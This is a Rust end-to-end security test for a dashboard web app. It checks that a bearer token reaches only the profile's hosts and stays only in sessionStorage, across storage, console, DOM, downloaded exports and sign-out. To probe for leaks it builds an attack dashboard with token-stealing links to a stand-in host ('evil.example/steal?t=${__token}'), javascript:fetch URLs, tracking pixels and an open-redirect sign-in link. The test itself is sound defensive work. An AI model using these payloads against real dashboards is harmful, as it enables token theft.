//! End to end (issue 10): the bearer token goes only to the signed-in profile's hosts, and is
//! kept nowhere but this tab's `sessionStorage`.
//!
//! One session signs in, opens a dashboard file built to steal the token (datasources, links,
//! variables and URL parameters naming other hosts), drives every page and menu, downloads the
//! exports, and then reads Chrome's performance log (every request and navigation), the
//! storage APIs, the console, the DOM and the downloaded files. Sign-out and closing the tab
//! forget the token.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod security_support;

use std::path::PathBuf;
use std::time::Duration;

use security_support::{
    demo_profile_origins, install_probes, navigate_in_app, origin_of, page_html,
};
use serde_json::{json, Value};
use sightline_e2e::{
    browser, close_modal, open, panel_menu, plant_dashboard, screenshot, settled_panels, sign_in,
    stack, Browser, WAIT,
};

/// A host the attack dashboard tries to make the app call (nothing listens there).
const EVIL: &str = "http://127.0.0.1:9999";
const EVIL_NAME: &str = "https://evil.example";

/// Everything the performance log told about the session.
#[derive(Default)]
struct Recorded {
    /// `(url, authorization header or "")` of every request.
    requests: Vec<(String, String)>,
    /// Every URL the tab showed (loads and in-app navigations).
    urls: Vec<String>,
}

impl Recorded {
    fn drain(&mut self, b: &Browser) {
        for entry in b.log("performance").unwrap() {
            let message = &entry["message"];
            let params = &message["params"];
            match message["method"].as_str().unwrap_or_default() {
                "Network.requestWillBeSent" => {
                    let headers = &params["request"]["headers"];
                    let auth = headers
                        .as_object()
                        .and_then(|h| {
                            h.iter()
                                .find(|(k, _)| k.eq_ignore_ascii_case("authorization"))
                                .and_then(|(_, v)| v.as_str())
                        })
                        .unwrap_or_default();
                    self.requests.push((
                        params["request"]["url"]
                            .as_str()
                            .unwrap_or_default()
                            .to_owned(),
                        auth.to_owned(),
                    ));
                }
                "Network.requestWillBeSentExtraInfo" => {
                    // The headers as sent (a redirect or the browser may add some); no URL.
                    let auth = params["headers"]
                        .as_object()
                        .and_then(|h| {
                            h.iter()
                                .find(|(k, _)| k.eq_ignore_ascii_case("authorization"))
                                .and_then(|(_, v)| v.as_str())
                        })
                        .unwrap_or_default();
                    if !auth.is_empty() {
                        self.requests.push((String::new(), auth.to_owned()));
                    }
                }
                "Page.frameNavigated" => {
                    self.urls.push(
                        params["frame"]["url"]
                            .as_str()
                            .unwrap_or_default()
                            .to_owned(),
                    );
                }
                "Page.navigatedWithinDocument" => {
                    self.urls
                        .push(params["url"].as_str().unwrap_or_default().to_owned());
                }
                _ => {}
            }
        }
        if let Ok(url) = b.current_url() {
            self.urls.push(url);
        }
    }
}

/// A dashboard file whose every field tries to point the app (and its token) at another host.
fn attack_dashboard() -> Value {
    let evil_ds = json!({"type": "prometheus", "uid": EVIL, "url": EVIL});
    let steal = format!("{EVIL_NAME}/steal?t=${{__token}}&u=${{__user.token}}");
    json!({
        "uid": "token-attack",
        "title": "Token attack",
        "__inputs": [{"name": "DS_EVIL", "type": "datasource", "pluginId": "prometheus", "url": EVIL}],
        "links": [
            {"title": "evil", "type": "link", "url": steal, "targetBlank": true},
            {"title": "script", "type": "link", "url": format!("javascript:fetch('{EVIL}/x')")}
        ],
        "time": {"from": "now-1h", "to": "now"},
        "templating": {"list": [
            {"type": "datasource", "name": "ds", "query": "prometheus", "regex": EVIL,
             "current": {"text": EVIL, "value": EVIL}},
            {"type": "custom", "name": "host", "query": format!("{EVIL}/api/v1/query,{EVIL_NAME}"),
             "current": {"text": EVIL, "value": EVIL}},
            {"type": "query", "name": "job", "datasource": evil_ds, "query": "label_values(up, job)",
             "refresh": 1},
            {"type": "textbox", "name": "url", "query": EVIL}
        ]},
        "panels": [
            {"id": 1, "type": "timeseries", "title": "Datasource object names another host",
             "gridPos": {"x": 0, "y": 0, "w": 8, "h": 7}, "datasource": evil_ds,
             "targets": [{"refId": "A", "expr": "sum(DCGM_FI_DEV_GPU_UTIL)", "datasource": evil_ds}],
             "links": [{"title": "steal", "url": steal}, {"title": "js", "url": "javascript:alert(1)"}]},
            {"id": 2, "type": "timeseries", "title": "Datasource variable",
             "gridPos": {"x": 8, "y": 0, "w": 8, "h": 7}, "datasource": "${ds}",
             "targets": [{"refId": "A", "expr": "count(up{instance=~\"$host\"}) or vector(1)"}]},
            {"id": 3, "type": "stat", "title": "Datasource by URL string",
             "gridPos": {"x": 16, "y": 0, "w": 8, "h": 7}, "datasource": EVIL,
             "targets": [{"refId": "A", "expr": "vector(1)", "datasource": "$ds"}]},
            {"id": 4, "type": "text", "title": "Links and images",
             "gridPos": {"x": 0, "y": 7, "w": 12, "h": 6},
             "options": {"mode": "markdown", "content": format!(
                "[evil]({EVIL_NAME}/?token=x) ![pixel]({EVIL}/pixel.png) <img src=\"{EVIL}/pixel2.png\"> [js](javascript:fetch('{EVIL}'))")}},
            {"id": 5, "type": "text", "title": "HTML mode",
             "gridPos": {"x": 12, "y": 7, "w": 12, "h": 6},
             "options": {"mode": "html", "content": format!(
                "<a href=\"{EVIL}\">x</a><img src=\"{EVIL}/p3.png\"><link rel=prefetch href=\"{EVIL}/p4\">")}},
            {"id": 6, "type": "timeseries", "title": "Loki datasource names another host",
             "gridPos": {"x": 0, "y": 13, "w": 12, "h": 7},
             "datasource": {"type": "loki", "uid": EVIL, "url": EVIL},
             "targets": [{"refId": "A", "expr": "sum(count_over_time({app=\"kube-apiserver\"}[5m]))"}]}
        ]
    })
}

fn download_dir() -> PathBuf {
    let dir = std::env::temp_dir().join(format!("sightline-e2e-downloads-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// Drives the panel menu of `title`: inspect, JSON, CSV and PNG downloads, full view.
fn drive_panel_menu(b: &Browser, title: &str) {
    panel_menu(b, title, ".menu-inspect");
    close_modal(b);
    panel_menu(b, title, ".menu-json");
    close_modal(b);
    panel_menu(b, title, ".menu-csv");
    panel_menu(b, title, ".menu-png");
    panel_menu(b, title, ".menu-view");
    b.wait_until(
        "the full-size view",
        "return location.search.includes('viewPanel') ? true : null;",
        WAIT,
    )
    .unwrap();
    b.execute("history.back(); return true;", &[]).unwrap();
}

#[test]
#[allow(clippy::too_many_lines)]
fn the_token_goes_only_to_the_profile_hosts_and_is_kept_nowhere_else() {
    let b = browser();
    install_probes(&b);
    let downloads = download_dir();
    b.cdp(
        "Browser.setDownloadBehavior",
        json!({"behavior": "allow", "downloadPath": downloads.display().to_string()}),
    )
    .unwrap();
    let mut seen = Recorded::default();

    // An open-redirect attempt in the sign-in link: the app must land on its own page.
    open(
        &b,
        &format!("/sign-in?next=//127.0.0.1:9999/x&datasource={EVIL}"),
    );
    sign_in(&b, "demo", stack::DEMO_TOKEN, ".panel");
    let landed = b.current_url().unwrap();
    assert!(
        landed.starts_with(&stack::app_url()) && landed.contains("/d/gpu-fleet"),
        "after sign-in the app stays on its own pages: {landed}"
    );
    seen.drain(&b);

    // The attack dashboard, opened with URL parameters naming other hosts as well.
    plant_dashboard(&b, "token-attack", &attack_dashboard());
    open(
        &b,
        &format!("/d/token-attack?datasource={EVIL}&var-ds={EVIL}&var-host={EVIL_NAME}&var-url={EVIL}&orgId=1"),
    );
    let panels = settled_panels(&b);
    screenshot(&b, "security-token-attack-dashboard");
    for (title, state) in &panels {
        assert_ne!(state, "waiting", "{title} never ran");
    }
    seen.drain(&b);

    // Every page and every panel menu item.
    navigate_in_app(&b, "/dashboards");
    b.wait_for(".dashboard-list", WAIT).unwrap();
    for uid in ["gpu-fleet", "gpu-node", "gpu-jobs", "dcgm-exporter"] {
        open(&b, &format!("/d/{uid}?datasource={EVIL}"));
        let panels = settled_panels(&b);
        seen.drain(&b);
        if uid == "gpu-fleet" {
            let first_chart = panels
                .iter()
                .find(|(t, _)| t == "GPU utilisation by cluster")
                .map_or_else(|| panels[0].0.clone(), |(t, _)| t.clone());
            drive_panel_menu(&b, &first_chart);
            settled_panels(&b);
            seen.drain(&b);
        }
    }
    open(
        &b,
        &format!(
            "/explore?q=up&range=1h&datasource={EVIL}&left=%7B%22datasource%22:%22{EVIL}%22%7D"
        ),
    );
    sightline_e2e::wait_for_text(&b, "#query-status", "series");
    seen.drain(&b);
    open(&b, "/explore");
    let query = b.wait_for("#query", WAIT).unwrap();
    b.type_into(&query, "sum(rate(DCGM_FI_DEV_GPU_UTIL[5m]", true)
        .unwrap();
    b.click(&b.wait_for("#run", WAIT).unwrap()).unwrap();
    sightline_e2e::wait_for_text(&b, ".error-box", "rejected");
    seen.drain(&b);
    std::thread::sleep(Duration::from_secs(2));

    // 1. Requests: the token only in requests to the demo profile's hosts; nothing at all to
    //    the hosts the dashboard and URLs named.
    let allowed = demo_profile_origins();
    let app = stack::app_url();
    let mut with_token = 0;
    for (url, auth) in &seen.requests {
        assert!(
            !url.contains(stack::DEMO_TOKEN),
            "the token in a URL: {url}"
        );
        if auth.contains(stack::DEMO_TOKEN) {
            with_token += 1;
            if !url.is_empty() {
                assert!(
                    allowed.contains(&origin_of(url)),
                    "the token went to {url} (allowed: {allowed:?})"
                );
            }
        }
        if !url.is_empty() && !url.starts_with("data:") && !url.starts_with("blob:") {
            let origin = origin_of(url);
            assert!(
                origin == app || allowed.contains(&origin),
                "a request left the app and the profile's hosts: {url}"
            );
        }
    }
    assert!(
        with_token > 20,
        "the panels queried with the token ({with_token} requests)"
    );
    let origins: std::collections::BTreeSet<String> =
        seen.requests.iter().map(|(u, _)| origin_of(u)).collect();
    println!(
        "{} requests ({with_token} with the token) to {origins:?}; {} URLs shown",
        seen.requests.len(),
        seen.urls.len()
    );
    // 2. URLs and history.
    for url in &seen.urls {
        assert!(
            !url.contains(stack::DEMO_TOKEN),
            "the token in a URL: {url}"
        );
    }
    // 3. Storage: sessionStorage has it (this tab), nothing else does.
    let session = b
        .execute("return sessionStorage.getItem('sightline.token');", &[])
        .unwrap();
    assert_eq!(
        session,
        json!(stack::DEMO_TOKEN),
        "sessionStorage keeps the token for this tab"
    );
    b.execute(
        r"window.__stores = null;
          (async () => {
            const dbs = indexedDB.databases ? await indexedDB.databases() : [];
            const caches_ = self.caches ? await caches.keys() : [];
            window.__stores = JSON.stringify({local: {...localStorage}, cookies: document.cookie, dbs, caches: caches_});
          })();
          return true;",
        &[],
    )
    .unwrap();
    let stores = b
        .wait_until("the storage dump", "return window.__stores;", WAIT)
        .unwrap();
    let stores = stores.as_str().unwrap_or_default();
    assert!(
        !stores.contains(stack::DEMO_TOKEN),
        "the token in storage: {stores}"
    );
    assert!(
        stores.contains("sightline.library"),
        "the dump covers localStorage: {}",
        &stores[..stores.len().min(200)]
    );
    // 4. Console, and every text the DOM holds.
    let console = b.log("browser").unwrap();
    for entry in &console {
        assert!(
            !entry.to_string().contains(stack::DEMO_TOKEN),
            "the token in the console: {entry}"
        );
    }
    assert!(
        !page_html(&b).contains(stack::DEMO_TOKEN),
        "the token in the page"
    );
    // 5. Downloaded exports (CSV and PNG of a panel).
    std::thread::sleep(Duration::from_secs(2));
    let files: Vec<PathBuf> = std::fs::read_dir(&downloads)
        .unwrap()
        .filter_map(|e| e.ok().map(|e| e.path()))
        .collect();
    assert!(
        files
            .iter()
            .any(|f| f.extension().is_some_and(|e| e == "csv"))
            && files
                .iter()
                .any(|f| f.extension().is_some_and(|e| e == "png")),
        "the CSV and PNG exports were downloaded: {files:?}"
    );
    println!("downloads: {files:?}");
    for file in &files {
        let bytes = std::fs::read(file).unwrap();
        assert!(
            !String::from_utf8_lossy(&bytes).contains(stack::DEMO_TOKEN),
            "the token in the export {}",
            file.display()
        );
    }

    // Sign-out forgets it; a signed-out tab cannot reach a dashboard.
    open(&b, "/d/gpu-fleet");
    b.click(&b.wait_for("#sign-out", WAIT).unwrap()).unwrap();
    b.wait_for("#token", WAIT).unwrap();
    let left = b
        .execute(
            "return JSON.stringify(sessionStorage) + JSON.stringify(localStorage) + document.cookie;",
            &[],
        )
        .unwrap();
    assert!(
        !left.to_string().contains(stack::DEMO_TOKEN),
        "after sign-out: {left}"
    );
    open(&b, "/d/gpu-fleet");
    b.wait_for("#token", WAIT).unwrap();

    // Closing the tab: a new tab starts without the token, and the old one's goes with it.
    sign_in(&b, "demo", stack::DEMO_TOKEN, ".panel");
    let first = b.current_tab().unwrap();
    let second = b.new_tab().unwrap();
    b.switch_to(&second).unwrap();
    open(&b, "/d/gpu-fleet");
    b.wait_for("#token", WAIT).unwrap();
    b.switch_to(&first).unwrap();
    b.close_tab().unwrap();
    b.switch_to(&second).unwrap();
    open(&b, "/d/gpu-fleet");
    b.wait_for("#token", WAIT).unwrap();
    let stored = b
        .execute(
            "return JSON.stringify(sessionStorage) + JSON.stringify(localStorage);",
            &[],
        )
        .unwrap();
    assert!(!stored.to_string().contains(stack::DEMO_TOKEN), "{stored}");
    let _ = std::fs::remove_dir_all(&downloads);
    b.quit();
}
